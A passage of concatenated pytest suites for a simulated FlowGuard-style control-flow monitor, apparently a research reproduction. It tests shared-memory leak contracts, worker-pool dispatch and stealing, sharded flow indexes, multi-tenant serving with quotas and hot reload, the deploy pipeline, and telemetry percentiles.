@pytest.fixture(autouse=True)
def shm_leak_detector():
    """Every test runs against a fresh registry and must end with zero
    live blocks — the leak contract the fleet shutdown relies on."""
    registry = shm.reset_registry()
    yield registry
    leaked = registry.live_blocks()
    shm._force_heap = False
    shm.reset_registry()
    assert leaked == [], f"leaked shm blocks: {leaked}"


# -- shm registry and descriptors --------------------------------------------


class TestShmRegistry:
    def test_segment_round_trip_is_bit_identical(self):
        for seed in (1, 2, 3):
            seg = columnar_scan(build_stream(seed, packets=120))
            desc = shm.share_segment(seg)
            clone = shm.attach_segment(desc)
            assert shm.segment_fingerprint(clone) == (
                shm.segment_fingerprint(seg)
            )
            shm.release(desc)

    def test_consume_unlinks_the_block(self):
        reg = shm.get_registry()
        seg = columnar_scan(build_stream(7, packets=60))
        desc = shm.share_segment(seg)
        clone = shm.consume_segment(desc)
        assert shm.segment_fingerprint(clone) == (
            shm.segment_fingerprint(seg)
        )
        assert reg.live_blocks() == []
        assert reg.stats()["unlinked"] >= 1

    def test_bytes_descriptor_spans(self):
        data = bytes(range(256)) * 4
        desc = shm.share_bytes(data)
        assert shm.attach_bytes(desc) == data
        assert shm.attach_bytes(desc, 16, 64) == data[16:64]
        assert shm.attach_bytes(desc, 0, 10**9) == data
        shm.release(desc)

    def test_attach_is_refcounted(self):
        reg = shm.get_registry()
        desc = shm.share_bytes(b"x" * 32)
        reg.attach(desc.block, payload=desc.inline)
        reg.attach(desc.block, payload=desc.inline)
        reg.detach(desc.block)
        # Still mapped: two references remain (creator + one attach).
        assert desc.block in reg.live_blocks()
        reg.detach(desc.block)
        shm.release(desc)
        assert reg.live_blocks() == []

    def test_detach_of_unmapped_block_raises(self):
        with pytest.raises(KeyError):
            shm.get_registry().detach("no-such-block")

    def test_heap_fallback_round_trips_inline(self):
        shm._force_heap = True
        reg = shm.reset_registry()
        assert not reg.using_shm
        seg = columnar_scan(build_stream(11, packets=80))
        desc = shm.share_segment(seg, reg)
        assert desc.inline is not None  # payload rides the descriptor
        # The descriptor must survive pickling into a registry that
        # never saw the block (the cross-process story, minus fork).
        wire = pickle.loads(pickle.dumps(desc))
        other = shm.ShmRegistry()
        clone = shm.attach_segment(wire, other)
        assert shm.segment_fingerprint(clone) == (
            shm.segment_fingerprint(seg)
        )
        assert other.live_blocks() == []
        shm.release(desc, reg)
        assert reg.live_blocks() == []

    def test_heap_publish_drops_the_local_copy(self):
        shm._force_heap = True
        reg = shm.reset_registry()
        desc = shm.share_bytes(b"payload", reg)
        reg.publish(desc.block)
        # Long-lived pool workers must not accumulate segment copies.
        assert reg.live_blocks() == []
        # The consumer still rebuilds from the inline payload.
        assert shm.attach_bytes(desc, registry=shm.ShmRegistry()) == (
            b"payload"
        )

    def test_stats_report_backend(self):
        assert shm.get_registry().stats()["backend"] in ("shm", "heap")
        shm._force_heap = True
        assert shm.reset_registry().stats()["backend"] == "heap"


# -- dispatch index: segment tree vs linear oracle ---------------------------


class _LinearPool(SimulatedWorkerPool):
    """The pre-optimisation pool: same dispatch, O(workers) scans."""

    def _earliest(self, not_before):
        return self._earliest_linear(not_before)

    def _latest(self):
        return self._latest_linear()


def _task(index, rng):
    return CheckTask(
        task_id=index,
        pid=rng.randrange(16),
        kind="endpoint",
        syscall_nr=0,
        enqueued_at=float(rng.randrange(0, 2000)),
        slices=[
            float(rng.randrange(10, 120))
            for _ in range(rng.randrange(0, 4))
        ],
        serial_cycles=float(rng.randrange(0, 200)),
        degraded=rng.random() < 0.15,
    )


class TestDispatchOracle:
    def test_selection_matches_linear_oracle(self):
        rng = random.Random(42)
        for workers in (1, 2, 3, 5, 8, 33, 100):
            pool = SimulatedWorkerPool(workers)
            pool.free_at = [
                float(rng.randrange(0, 500)) for _ in range(workers)
            ]
            for _ in range(200):
                t0 = float(rng.randrange(0, 600))
                assert pool._earliest(t0) == pool._earliest_linear(t0)
                assert pool._latest() == pool._latest_linear()
                # Mutate through the indexed writer and re-compare.
                pool._set_free(
                    rng.randrange(workers), float(rng.randrange(0, 700))
                )

    def test_dispatch_schedule_identical_to_linear(self):
        fast, slow = SimulatedWorkerPool(4), _LinearPool(4)
        schedules = []
        for pool in (fast, slow):
            rng = random.Random(7)
            times = []
            for index in range(300):
                task = _task(index, rng)
                end = pool.dispatch(task)
                times.append((task.started_at, end))
                if rng.random() < 0.1:
                    pool.burn(
                        float(rng.randrange(0, 2000)),
                        float(rng.randrange(10, 90)),
                        lane=rng.random() < 0.5,
                    )
            schedules.append(times)
        assert schedules[0] == schedules[1]
        assert fast.free_at == slow.free_at
        assert fast.busy_cycles == slow.busy_cycles
        assert fast.tasks_run == slow.tasks_run


# -- work stealing -----------------------------------------------------------


class TestWorkStealing:
    def test_make_pool_disciplines(self):
        assert type(make_pool(2)) is SimulatedWorkerPool
        assert type(make_pool(2, "steal")) is WorkStealingPool
        with pytest.raises(ValueError):
            make_pool(2, "lifo")

    def test_steals_fire_under_backlog(self):
        pool = WorkStealingPool(2)
        # Every task homes on worker 0: without stealing worker 1
        # would sit idle while 0 backlogs.
        for index in range(8):
            pool.dispatch(CheckTask(
                task_id=index, pid=0, kind="endpoint", syscall_nr=0,
                enqueued_at=0.0, serial_cycles=100.0,
            ))
        assert pool.steals > 0
        assert pool.busy_total == 800.0

    def test_affinity_holds_when_home_is_free(self):
        pool = WorkStealingPool(2)
        for index in range(4):
            pool.dispatch(CheckTask(
                task_id=index, pid=index, kind="endpoint",
                syscall_nr=0, enqueued_at=float(1000 * index),
                serial_cycles=50.0,
            ))
        assert pool.steals == 0
        assert pool.affinity_hits == 4

    def test_fleet_ledger_exact_under_stealing(self):
        for discipline in ("spread", "steal"):
            result = build_fleet(
                8, 2, 1, ring_bytes=1024, pool=discipline,
            ).run()
            assert result.accounting["exact"], discipline
            if discipline == "steal":
                assert result.scheduling is not None
                assert result.scheduling["discipline"] == "steal"


# -- process-pool decode -----------------------------------------------------


class TestProcessPoolDecoder:
    def test_digest_matches_threaded(self):
        streams = [build_stream(seed, packets=150) for seed in range(4)]
        with ThreadedSliceDecoder(2) as thr, \
                ProcessPoolSliceDecoder(2) as proc:
            for data in streams:
                a = thr.decode(data, sync=True)
                b = proc.decode(data, sync=True)
                assert b.cycles == a.cycles
                assert b.synced_offset == a.synced_offset
                assert b.segments == a.segments
            assert proc.column_digest == thr.column_digest
        assert proc.shm_stats()["live"] == 0

    def test_objects_engine_rejected(self):
        with pytest.raises(ValueError):
            ProcessPoolSliceDecoder(2, engine="objects")
        with pytest.raises(ValueError):
            make_slice_decoder("quantum", 2)

    def test_heap_fallback_decodes_identically(self):
        data = build_stream(5, packets=150)
        with ProcessPoolSliceDecoder(2) as proc:
            baseline = proc.decode(data, sync=True)
        shm._force_heap = True
        shm.reset_registry()
        with ProcessPoolSliceDecoder(2) as degraded:
            result = degraded.decode(data, sync=True)
            assert degraded.shm_stats()["backend"] == "heap"
        assert result.cycles == baseline.cycles
        assert result.segments == baseline.segments
        assert [
            (shm.segment_fingerprint(seg), base)
            for seg, base in result.columns
        ] == [
            (shm.segment_fingerprint(seg), base)
            for seg, base in baseline.columns
        ]

    def test_fleet_process_pool_matches_threaded(self):
        runs = {}
        for decode_pool in ("thread", "process"):
            service = build_fleet(
                4, 2, 1, decode_mode="threads",
                decode_pool=decode_pool,
            )
            runs[decode_pool] = service.run()
        thr, proc = runs["thread"], runs["process"]
        assert proc.schedule_digest == thr.schedule_digest
        assert proc.accounting == thr.accounting
        assert proc.detections == thr.detections
        assert proc.threaded_decode["column_digest"] == (
            thr.threaded_decode["column_digest"]
        )
        assert proc.threaded_decode["pool"] == "process"
        assert proc.threaded_decode["shm"]["live"] == 0

    def test_worker_crash_books_match_threaded(self):
        """Injected worker crashes dead-letter identically whichever
        decode backend runs underneath — the resilience books are
        simulated state, the pool is an execution backend."""
        runs = {}
        for decode_pool in ("thread", "process"):
            service = build_fleet(
                4, 2, 1, decode_mode="threads",
                decode_pool=decode_pool,
                faults=FaultPlan(
                    seed=3,
                    worker_crash=FaultSite(probability=0.3, limit=6),
                ),
                retry=RetryPolicy(
                    max_attempts=2, backoff_base=50.0,
                ),
            )
            runs[decode_pool] = service.run()
        thr, proc = runs["thread"], runs["process"]
        assert thr.accounting["exact"] and proc.accounting["exact"]
        assert proc.schedule_digest == thr.schedule_digest
        assert proc.accounting == thr.accounting
        assert len(proc.dead_letters or []) == len(
            thr.dead_letters or []
        )
        assert proc.threaded_decode["column_digest"] == (
            thr.threaded_decode["column_digest"]
        )

    def test_unknown_decode_pool_rejected(self):
        with pytest.raises(ValueError):
            FleetService(FleetConfig(
                decode_mode="threads", decode_pool="quantum"
            ))


# -- sharded flow index ------------------------------------------------------


def _multi_module_labeled():
    """A labelled ITC whose sources span several index shards."""
    itc = ITCCFG()
    modules = [m << MODULE_SHIFT for m in (1, 2, 5, 9)]
    rng = random.Random(13)
    edges = []
    for src_base in modules:
        for dst_base in modules:
            for i in range(6):
                src = src_base + 0x100 + 0x40 * i
                dst = dst_base + 0x900 + 0x40 * ((i * 7) % 6)
                itc.nodes.add(src)
                itc.nodes.add(dst)
                itc.add_edge(ITCEdge(src, dst, src + 0x10))
                edges.append((src, dst))
    labeled = CreditLabeledITC(itc=itc)
    trained = rng.sample(edges, len(edges) // 2)
    for src, dst in trained:
        labeled.promote(src, dst, (True,))
    return labeled, edges


class TestShardedIndex:
    def test_factory_picks_layout(self):
        labeled, _ = _multi_module_labeled()
        assert type(build_flow_index(labeled)) is FlowSearchIndex
        sharded = build_flow_index(labeled, index_shards=4)
        assert type(sharded) is ShardedFlowSearchIndex
        assert sharded.shards == 4

    def test_check_edge_parity(self):
        labeled, edges = _multi_module_labeled()
        # Memo capacity is per shard (the documented divergence from
        # the flat index), so parity of the memoized path is asserted
        # below eviction: capacity comfortably above the keyspace.
        flat = FlowSearchIndex(labeled, edge_cache_entries=4096)
        sharded = ShardedFlowSearchIndex(
            labeled, 4, edge_cache_entries=4096
        )
        rng = random.Random(99)
        probes = list(edges) + [
            (rng.randrange(1 << 24), rng.randrange(1 << 24))
            for _ in range(40)
        ]
        rng.shuffle(probes)
        for src, dst in probes * 2:  # second pass exercises the memo
            a = flat.check_edge(src, dst, (True,))
            b = sharded.check_edge(src, dst, (True,))
            assert (a.in_graph, a.credit, a.tnt_ok, a.probes) == (
                b.in_graph, b.credit, b.tnt_ok, b.probes
            ), (hex(src), hex(dst))
        assert sharded.cycles == flat.cycles
        assert sharded.memo_hits == flat.memo_hits
        assert sharded.memo_misses == flat.memo_misses

    def test_check_batch_parity(self):
        labeled, edges = _multi_module_labeled()
        flat = FlowSearchIndex(labeled)
        sharded = ShardedFlowSearchIndex(labeled, 8)
        rng = random.Random(5)
        for _ in range(30):
            window = rng.sample(edges, 6)
            ips = [window[0][0]] + [dst for _, dst in window]
            sigs = [() for _ in ips]
            a = flat.check_batch(ips, sigs)
            b = sharded.check_batch(ips, sigs)
            assert a.violation == b.violation
            assert a.low_credit == b.low_credit
            assert a.checked == b.checked
        assert sharded.cycles == flat.cycles

    def test_promote_routes_to_owning_shard(self):
        labeled, edges = _multi_module_labeled()
        sharded = ShardedFlowSearchIndex(labeled, 4)
        flat = FlowSearchIndex(labeled)
        src, dst = edges[0]
        before = sharded.check_edge(src, dst)
        flat.promote(src, dst, (False,))
        sharded.promote(src, dst, (False,))
        owner = sharded.shard_of(src)
        stats = sharded.shard_stats()
        assert stats[owner]["promotions"] == 1
        assert sum(s["promotions"] for s in stats) == 1
        after = sharded.check_edge(src, dst, (False,))
        ref = flat.check_edge(src, dst, (False,))
        assert (after.credit, after.tnt_ok) == (ref.credit, ref.tnt_ok)
        assert after.credit != before.credit or after.tnt_ok

    def test_shard_stats_aggregate_exactly(self):
        labeled, edges = _multi_module_labeled()
        sharded = ShardedFlowSearchIndex(
            labeled, 4, edge_cache_entries=16
        )
        flat = FlowSearchIndex(labeled, edge_cache_entries=16)
        for src, dst in edges * 2:
            sharded.check_edge(src, dst)
            flat.check_edge(src, dst)
        stats = sharded.edge_cache_stats()
        shard_rows = sharded.shard_stats()
        assert stats["hits"] == sum(s["memo_hits"] for s in shard_rows)
        assert stats["misses"] == sum(
            s["memo_misses"] for s in shard_rows
        )
        assert sum(s["hot_edges"] for s in shard_rows) == len(
            flat._hot
        )
        assert sharded.memory_bytes() > 0

    def test_fleet_sharded_index_is_invisible(self):
        flat = build_fleet(4, 2, 1).run()
        sharded = build_fleet(4, 2, 1, index_shards=8).run()
        assert sharded.schedule_digest == flat.schedule_digest
        assert sharded.accounting == flat.accounting
        assert sharded.detections == flat.detections


# -- open-loop tenants and fairness ------------------------------------------


class TestOpenLoopFairness:
    def test_open_mix_reports_fairness(self):
        result = run_service(builtin_serve_config("open-mix"))
        assert set(result.tenants) == {"steady", "bursty"}
        for report in result.tenants.values():
            fairness = report["fairness"]
            assert fairness["offered"] > 0
            assert 0.0 <= fairness["ratio"] <= 1.0
            assert fairness["achieved"] == report["completed"]
        payload = result.to_dict()
        spread = payload["fairness"]["spread"]
        ratios = payload["fairness"]["ratios"]
        assert set(ratios) == {"steady", "bursty"}
        assert spread == pytest.approx(
            max(ratios.values()) - min(ratios.values())
        )

    def test_unthrottled_open_loop_absorbs_all_demand(self):
        result = run_service(builtin_serve_config("open-mix"))
        for report in result.tenants.values():
            assert report["fairness"]["ratio"] == 1.0
        assert result.to_dict()["fairness"]["spread"] == 0.0
