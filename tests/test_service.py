"""Multi-tenant serving front-end (``repro.service``).

Covers the serving contract end to end: serve-config round-trips
(unknown keys rejected, bundled examples in sync with the builtin
registry), token-bucket quota math, admission-control shed accounting,
the structural tenant-isolation invariants (a clean tenant next to a
noisy neighbor is bit-identical to its solo run and never sees the
neighbor's faults), hot O-CFG/ITC-CFG reload with drain-then-retire,
graceful drain, the StatsReport v4 ``tenants`` section, and the
``repro.api`` facade exports.
"""

import asyncio
import json
import os

import pytest

from repro import telemetry
from repro.loadgen import builtin_scenario
from repro.resilience import FaultPlan, RetryPolicy
from repro.service import (
    BUILTIN_SERVE_CONFIGS,
    SERVE_SCHEMA_VERSION,
    ServeConfig,
    TenantSpec,
    TenantRuntime,
    TokenBucket,
    TraceCheckService,
    builtin_serve_config,
    resolve_serve_config,
    run_service,
)
from repro.stats_report import SCHEMA_VERSION, StatsReport

EXAMPLES = os.path.join(
    os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
    "examples", "tenants",
)


@pytest.fixture(autouse=True)
def clean_telemetry():
    tel = telemetry.get_telemetry()
    tel.reset()
    tel.disable()
    yield
    tel.reset()
    tel.disable()


# -- serve-config serialisation ----------------------------------------------


def test_serve_config_round_trip():
    config = builtin_serve_config("duo-isolation")
    clone = ServeConfig.from_dict(
        json.loads(json.dumps(config.to_dict()))
    )
    assert clone == config


def test_serve_config_unknown_key_rejected():
    data = ServeConfig.default().to_dict()
    data["typo_key"] = 1
    with pytest.raises(ValueError, match="typo_key"):
        ServeConfig.from_dict(data)


def test_tenant_spec_unknown_key_rejected():
    data = TenantSpec(name="a").to_dict()
    data["quota"] = 0.5
    with pytest.raises(ValueError, match="quota"):
        TenantSpec.from_dict(data)


def test_newer_serve_schema_rejected():
    data = ServeConfig.default().to_dict()
    data["schema_version"] = SERVE_SCHEMA_VERSION + 1
    with pytest.raises(ValueError, match="newer"):
        ServeConfig.from_dict(data)


def test_serve_config_validation():
    with pytest.raises(ValueError, match="at least one"):
        ServeConfig(tenants=()).validate()
    with pytest.raises(ValueError, match="duplicate"):
        ServeConfig(
            tenants=(TenantSpec(name="a"), TenantSpec(name="a"))
        ).validate()
    with pytest.raises(ValueError, match="name"):
        TenantSpec(name="bad name!").validate()
    with pytest.raises(ValueError, match="quota_rate"):
        TenantSpec(name="a", quota_rate=0.0).validate()
    with pytest.raises(ValueError, match="connections"):
        TenantSpec(name="a", connections=0).validate()


def test_tenant_spec_nested_faults_and_retry_round_trip():
    spec = TenantSpec(
        name="faulty",
        faults=FaultPlan.standard_mix(seed=3),
        retry=RetryPolicy(max_attempts=2, task_timeout=1000.0),
        seed=7,
    )
    clone = TenantSpec.from_dict(
        json.loads(json.dumps(spec.to_dict()))
    )
    assert clone == spec
    assert clone.resolve().faults == spec.faults
    assert clone.resolve().retry == spec.retry
    assert clone.resolve().seed == 7


def test_bundled_examples_match_builtins():
    bundled = {
        name[:-len(".json")]
        for name in os.listdir(EXAMPLES) if name.endswith(".json")
    }
    assert bundled == set(BUILTIN_SERVE_CONFIGS)
    for name in sorted(bundled):
        loaded = ServeConfig.load(
            os.path.join(EXAMPLES, f"{name}.json")
        )
        assert loaded == builtin_serve_config(name), name


def test_resolve_serve_config(tmp_path):
    assert resolve_serve_config("smoke") == builtin_serve_config("smoke")
    path = tmp_path / "custom.json"
    builtin_serve_config("reload").save(str(path))
    assert resolve_serve_config(str(path)) == builtin_serve_config(
        "reload"
    )
    with pytest.raises(ValueError, match="no such serve config"):
        resolve_serve_config("no-such-config")


# -- quota -------------------------------------------------------------------


class TestTokenBucket:
    def test_unthrottled_never_stalls(self):
        bucket = TokenBucket(rate=1.0)
        assert not bucket.armed
        assert bucket.charge(10_000.0) == 0.0
        assert bucket.throttles == 0

    def test_deficit_charged_exactly(self):
        bucket = TokenBucket(rate=0.5)
        # Spending S at rate r owes a stall of S*(1-r)/r.
        assert bucket.charge(1000.0) == pytest.approx(1000.0)
        assert bucket.tokens == 0.0
        assert bucket.throttle_cycles == pytest.approx(1000.0)

    def test_burst_absorbs_before_throttling(self):
        bucket = TokenBucket(rate=0.5, burst=500.0)
        assert bucket.charge(1000.0) == 0.0   # 500 burst covers it
        assert bucket.charge(1000.0) == pytest.approx(1000.0)

    def test_steady_state_utilisation_converges_to_rate(self):
        bucket = TokenBucket(rate=0.25)
        executed = stalled = 0.0
        for _ in range(50):
            executed += 800.0
            stalled += bucket.charge(800.0)
        assert executed / (executed + stalled) == pytest.approx(0.25)

    def test_validation(self):
        with pytest.raises(ValueError):
            TokenBucket(rate=0.0)
        with pytest.raises(ValueError):
            TokenBucket(rate=0.5, burst=-1.0)


# -- serving: isolation, reload, drain ---------------------------------------


def _clean_solo():
    clean = builtin_serve_config("duo-isolation").tenants[0]
    return run_service(ServeConfig(name="solo", tenants=(clean,)))


class TestServing:
    def test_smoke_config_runs_exact(self):
        result = run_service(builtin_serve_config("smoke"))
        report = result.tenants["acme"]
        assert report["offered"] == report["completed"] == 4
        assert report["accounting_exact"] and report["ledger_exact"]
        assert report["dropped_checks"] == 0
        assert result.events["acme"][-1]["type"] == "done"
        verdicts = [e for e in result.events["acme"]
                    if e["type"] == "verdict"]
        assert len(verdicts) == report["checks"]

    def test_clean_tenant_bit_identical_next_to_noisy_neighbor(self):
        solo = _clean_solo()
        duo = run_service(builtin_serve_config("duo-isolation"))
        assert (solo.tenants["clean"]["digest"]
                == duo.tenants["clean"]["digest"])
        assert (solo.tenants["clean"]["latency"]
                == duo.tenants["clean"]["latency"])

    def test_noisy_faults_never_leak_into_clean_ledger(self):
        duo = run_service(builtin_serve_config("duo-isolation"))
        clean = duo.tenants["clean"]
        noisy = duo.tenants["noisy"]
        fault_kinds = {"corrupt-drain", "truncate-drain",
                       "worker-crash", "worker-hang", "retry",
                       "task-timeout", "hedge", "dead-letter"}
        assert not fault_kinds & set(clean["degradations"])
        assert fault_kinds & set(noisy["degradations"])
        # Throttle stalls land only in the throttled tenant's books.
        assert clean["quota"]["throttles"] == 0
        assert noisy["quota"]["throttles"] > 0
        assert "throttle" in noisy["degradations"]
        assert clean["accounting_exact"] and clean["ledger_exact"]
        assert noisy["accounting_exact"] and noisy["ledger_exact"]

    def test_service_run_is_deterministic(self):
        a = run_service(builtin_serve_config("duo-isolation"))
        b = run_service(builtin_serve_config("duo-isolation"))
        for name in a.tenants:
            assert a.tenants[name]["digest"] == b.tenants[name]["digest"]

    def test_hot_reload_drops_nothing_and_retires_old_version(self):
        result = run_service(builtin_serve_config("reload"))
        report = result.tenants["rolling"]
        assert report["reloads"]["count"] == 1
        assert report["reloads"]["undrained"] == 0
        assert report["dropped_checks"] == 0
        assert report["completed"] == report["offered"]
        assert report["accounting_exact"] and report["ledger_exact"]
        rt_again = run_service(builtin_serve_config("reload"))
        assert report["digest"] == rt_again.tenants["rolling"]["digest"]

    def test_reload_registry_versions_recorded(self):
        spec = builtin_serve_config("reload").tenants[0]
        rt = TenantRuntime(spec)
        rt.run_to_completion()
        versions = rt.registry.versions
        assert versions and all(
            v.retired_at is not None for v in versions
        )
        assert all(v.version == 2 for v in versions)

    def test_graceful_drain_applies_inflight_checks(self):
        service = TraceCheckService(builtin_serve_config("smoke"))

        async def drive():
            async def trigger():
                await asyncio.sleep(0)
                await asyncio.sleep(0)
                service.request_drain()
            result, _ = await asyncio.gather(service.serve(), trigger())
            return result

        result = asyncio.run(drive())
        assert result.drained
        events = result.events["acme"]
        assert events[-1]["type"] == "drained"
        report = result.tenants["acme"]
        verdicts = [e for e in events if e["type"] == "verdict"]
        assert len(verdicts) == report["checks"]
        assert report["dropped_checks"] == 0
        assert report["accounting_exact"] and report["ledger_exact"]

    def test_shed_load_accounted_in_ledger(self):
        result = run_service(builtin_serve_config("quota-shed"))
        capped = result.tenants["capped"]
        uncapped = result.tenants["uncapped"]
        spec = builtin_serve_config("quota-shed").tenants[1]
        offered_uncapped = (
            builtin_scenario(spec.scenario).sessions * spec.connections
        )
        assert capped["shed"] == offered_uncapped - spec.max_sessions
        assert capped["offered"] == spec.max_sessions
        assert uncapped["shed"] == 0
        assert "shed-load" in capped["degradations"]
        assert capped["ledger_exact"]

    def test_service_serves_exactly_once(self):
        service = TraceCheckService(builtin_serve_config("smoke"))
        asyncio.run(service.serve())
        with pytest.raises(RuntimeError, match="exactly once"):
            asyncio.run(service.serve())

    def test_tenant_labels_on_telemetry_series(self):
        tel = telemetry.get_telemetry()
        tel.reset()
        tel.enable()
        try:
            run_service(builtin_serve_config("quota-shed"))
            snapshot = tel.metrics.snapshot()
        finally:
            tel.disable()
        assert any(
            'tenant="capped"' in series
            for series in snapshot["counters"]
        ), sorted(snapshot["counters"])
        shed = [s for s in snapshot["counters"]
                if s.startswith("service.shed")]
        assert shed and all('tenant="capped"' in s for s in shed)


# -- StatsReport v3 -> v4 ----------------------------------------------------


class TestSchemaV4:
    def test_v2_payload_loads_with_none_tenants(self):
        v2 = {"schema_version": 2, "monitor": {"checks": 1},
              "context": {"kind": "solo"}}
        report = StatsReport.from_dict(v2)
        assert report.tenants is None
        assert report.schema_version == 2

    def test_v3_payload_loads_with_none_tenants(self):
        v3 = {"schema_version": 3, "monitor": {"checks": 1},
              "slo": {"met": True, "objectives": []}}
        report = StatsReport.from_dict(v3)
        assert report.tenants is None
        assert report.slo == {"met": True, "objectives": []}

    def test_v4_round_trip(self):
        tenants = {"acme": {"offered": 4, "digest": "abc"}}
        report = StatsReport(monitor={"checks": 1}, tenants=tenants)
        again = StatsReport.from_dict(
            json.loads(json.dumps(report.to_dict()))
        )
        assert again.tenants == tenants
        assert again.schema_version == SCHEMA_VERSION
        assert SCHEMA_VERSION == 4

    def test_newer_schema_rejected(self):
        with pytest.raises(ValueError, match="newer"):
            StatsReport.from_dict(
                {"schema_version": SCHEMA_VERSION + 1, "monitor": {}}
            )


# -- facade ------------------------------------------------------------------


def test_api_exports_service_surface():
    import repro.api as api

    for name in ("ServeConfig", "TenantSpec", "TraceCheckService",
                 "run_service", "resolve_serve_config"):
        assert name in api.__all__
        assert getattr(api, name) is not None


def test_percentile_relocation_warns_from_fleet_service():
    import repro.fleet.service as fleet_service

    with pytest.warns(DeprecationWarning, match="percentile"):
        relocated = fleet_service.percentile
    from repro.telemetry.metrics import percentile
    assert relocated is percentile
