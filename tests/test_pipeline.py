"""Tests for the high-level FlowGuardPipeline API."""

import pytest

from repro.itccfg import itccfg_from_dict, itccfg_to_dict
from repro.monitor import FlowGuardPolicy
from repro.osmodel import Kernel, ProcessState
from repro.pipeline import FlowGuardPipeline
from repro.workloads import (
    build_libsim,
    build_nginx,
    build_vdso,
    nginx_request,
)

LIBS = {"libsim.so": build_libsim()}


@pytest.fixture(scope="module")
def pipeline():
    return FlowGuardPipeline.offline(
        "nginx", build_nginx(), LIBS, vdso=build_vdso(),
        corpus=[nginx_request("/a"), nginx_request("/b", "HEAD")],
        mode="socket",
    )


class TestOffline:
    def test_offline_without_corpus(self):
        untrained = FlowGuardPipeline.offline(
            "nginx", build_nginx(), LIBS, vdso=build_vdso()
        )
        assert untrained.training is None
        assert untrained.path_index is None
        assert untrained.labeled.trained_ratio() == 0.0
        assert untrained.itc.edge_count > 0

    def test_offline_artifacts_consistent(self, pipeline):
        # Every trained edge must actually exist in the ITC-CFG.
        for src, dst in pipeline.labeled.high_credit_edges():
            assert pipeline.itc.has_edge(src, dst)

    def test_trained_graph_roundtrips_through_serialization(self, pipeline):
        data = itccfg_to_dict(pipeline.labeled)
        import json

        restored = itccfg_from_dict(json.loads(json.dumps(data)))
        assert restored.trained_ratio() == pytest.approx(
            pipeline.labeled.trained_ratio()
        )


class TestDeploy:
    def test_two_processes_one_monitor(self, pipeline):
        """A single kernel module protects multiple instances."""
        kernel = Kernel()
        kernel.fs.create("/a", b"A" * 64)
        monitor = pipeline.make_monitor(kernel)
        _, proc1 = pipeline.deploy(kernel, monitor=monitor)
        _, proc2 = pipeline.deploy(kernel, monitor=monitor)
        assert proc1.cr3 != proc2.cr3
        proc1.push_connection(nginx_request("/a"))
        proc2.push_connection(nginx_request("/a"))
        kernel.run(proc1)
        kernel.run(proc2)
        assert monitor.detections == []
        assert monitor.stats_for(proc1).checks > 0
        assert monitor.stats_for(proc2).checks > 0

    def test_stats_for_unprotected_raises(self, pipeline):
        kernel = Kernel()
        monitor = pipeline.make_monitor(kernel)
        proc = pipeline.spawn_unprotected(kernel)
        with pytest.raises(KeyError):
            monitor.stats_for(proc)

    def test_unprotect_stops_tracing(self, pipeline):
        kernel = Kernel()
        kernel.fs.create("/a", b"x")
        monitor, proc = pipeline.deploy(kernel)
        pp = monitor.protected_for(proc)
        monitor.unprotect(proc)
        assert monitor.protected_for(proc) is None
        proc.push_connection(nginx_request("/a"))
        kernel.run(proc)
        assert pp.topa.total_bytes_written == 0  # no packets emitted

    def test_policy_flows_through_deploy(self, pipeline):
        kernel = Kernel()
        kernel.fs.create("/a", b"x")
        policy = FlowGuardPolicy(pkt_count=7)
        monitor, proc = pipeline.deploy(kernel, policy=policy)
        assert monitor.policy.pkt_count == 7
        assert monitor.protected_for(proc).checker.pkt_count == 7

    def test_deploy_registers_program_once(self, pipeline):
        kernel = Kernel()
        pipeline.deploy(kernel)
        pipeline.deploy(kernel)
        assert "nginx" in kernel.programs
