"""Tests for the observability plane (sampler, flight recorder, SLOs).

Pins the plane's contracts: exact nearest-rank percentiles from the
rewritten Histogram, sampler cadence and ring eviction, the flight
recorder's bounded journal and auto-dumps (VIOLATION, ledger drift),
zero allocation when disabled, determinism under seeded fault
injection, SLO error-budget arithmetic, the plane's exact-accounting
audit on a real run, and the StatsReport v2 -> v3 migration.
"""

import json
import tracemalloc

import pytest

from repro import telemetry
from repro.experiments.common import (
    libraries,
    seed_server_fs,
    server_pipeline,
    server_requests,
)
from repro.experiments.fleet_scaling import build_fleet
from repro.osmodel import Kernel
from repro.resilience import FaultPlan, RetryPolicy
from repro.stats_report import SCHEMA_VERSION, StatsReport
from repro.telemetry.metrics import MetricsRegistry, nearest_rank
from repro.telemetry.plane import (
    FlightRecorder,
    ObservabilityPlane,
    SLOConfig,
    SLOEngine,
    SLObjective,
    TimeseriesSampler,
)


@pytest.fixture(autouse=True)
def _clean_global_telemetry():
    """Every test starts and ends with disabled, empty global state."""
    tel = telemetry.get_telemetry()
    tel.detach_plane()
    tel.disable()
    tel.reset()
    yield tel
    tel.detach_plane()
    tel.disable()
    tel.reset()


# -- exact percentiles (the Histogram.summary fix) ---------------------------


class TestExactPercentiles:
    def test_nearest_rank_small_sets(self):
        assert nearest_rank([], 99) == 0.0
        assert nearest_rank([7.0], 50) == 7.0
        assert nearest_rank([1.0, 2.0], 50) == 1.0
        assert nearest_rank([1.0, 2.0], 99) == 2.0

    def test_histogram_percentiles_are_exact(self):
        reg = MetricsRegistry(enabled=True)
        h = reg.histogram("lag")
        for v in range(100, 0, -1):  # reverse insert: order must not matter
            h.observe(float(v))
        assert h.percentile(50) == 50.0
        assert h.percentile(95) == 95.0
        assert h.percentile(99) == 99.0
        cell = h.summary()
        assert cell["p50"] == 50.0
        assert cell["p95"] == 95.0
        assert cell["p99"] == 99.0
        assert cell["count"] == 100
        assert cell["max"] == 100.0

    def test_labeled_series_keep_separate_observations(self):
        reg = MetricsRegistry(enabled=True)
        h = reg.histogram("lag")
        h.observe(1.0, kind="a")
        h.observe(100.0, kind="b")
        assert h.percentile(99, kind="a") == 1.0
        assert h.percentile(99, kind="b") == 100.0

    def test_snapshot_carries_exact_percentiles(self):
        reg = MetricsRegistry(enabled=True)
        h = reg.histogram("lag")
        for v in (1.0, 2.0, 3.0, 1000.0):
            h.observe(v)
        cell = reg.snapshot()["histograms"]["lag"]
        assert cell["p50"] == 2.0
        assert cell["p99"] == 1000.0

    def test_reset_clears_observations(self):
        h = MetricsRegistry(enabled=True).histogram("x")
        h.observe(5.0)
        h.reset()
        assert h.percentile(99) == 0.0
        assert h.summary() is None


# -- sampler -----------------------------------------------------------------


def _plane(interval=100.0, **kwargs) -> ObservabilityPlane:
    tel = telemetry.get_telemetry()
    plane = ObservabilityPlane(interval=interval, telemetry=tel, **kwargs)
    tel.attach_plane(plane)
    return plane


class TestTimeseriesSampler:
    def test_cadence_on_the_virtual_grid(self):
        plane = _plane(interval=100.0)
        sampler = plane.sampler
        assert sampler.maybe_sample(50.0) is None
        first = sampler.maybe_sample(130.0)
